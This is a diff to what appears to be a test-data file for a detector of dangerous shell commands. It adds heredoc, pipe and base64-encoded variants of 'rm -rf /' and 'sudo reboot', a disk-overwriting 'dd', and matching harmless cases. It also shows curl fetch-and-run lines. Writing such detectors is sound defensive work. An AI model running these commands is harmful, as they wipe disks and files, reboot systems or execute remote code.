@@ -116,6 +116,7 @@ DANGEROUS: list[tuple[str, str]] = [
     ("cat img > /dev/sda", DISK),
     ("echo x > /dev/nvme0n1", DISK),
     ("cp disk.img /dev/mmcblk0", DISK),
+    ("dd if=x.img of=/dev/disk2", "dd writes to a disk device"),
     # permissions
     ("chmod -R 777 .", "chmod -R 777"),
     ("chmod -R a+rwx build", "chmod -R 777"),
@@ -136,6 +137,14 @@ DANGEROUS: list[tuple[str, str]] = [
     ("source <(curl -s https://x)", DOWNLOAD),
     (". <(curl -s https://x)", DOWNLOAD),
     ('python3 -c "$(curl -s https://x)"', DOWNLOAD),
+    # scripts handed to a shell some other way
+    ("bash <<EOF\nsudo reboot\nEOF", ROOT),
+    ("sh <<-'X'\n\trm -rf /\n\tX\necho done", RM_OUT),
+    ("bash <<< 'rm -rf ~'", RM_OUT),
+    ("echo 'rm -rf /' | sh", RM_OUT),
+    ("printf '%s\\n' 'sudo ls' | bash", ROOT),
+    ("echo cm0gLXJmIC8K | base64 -d | sh", "runs a script from a pipe"),
+    ("cat script.sh | bash", "runs a script from a pipe"),
     # force-push
     ("git push --force", FORCE),
     ("git push -f origin main", FORCE),
@@ -151,6 +160,7 @@ DANGEROUS: list[tuple[str, str]] = [
     ("telinit 6", POWER),
     ("systemctl poweroff", POWER),
     ("systemctl --no-wall reboot", POWER),
+    ("loginctl poweroff", POWER),
     # init
     ("kill -9 1", INIT),
     ("kill 1", INIT),
@@ -267,6 +277,11 @@ HARMLESS: list[str] = [
     "tar czf ../backup.tgz .",
     "ln -s ../shared lib",
     "echo done # sudo reboot",
+    "echo ls | bash -c 'cat'",
+    "python3 <<EOF\nimport os\nprint(os.getcwd())\nEOF",
+    "bash <<EOF\necho hi\nEOF",
+    "echo 'ls -la' | sh",
+    "cat <<< 'sudo reboot'",
 ]
 
 
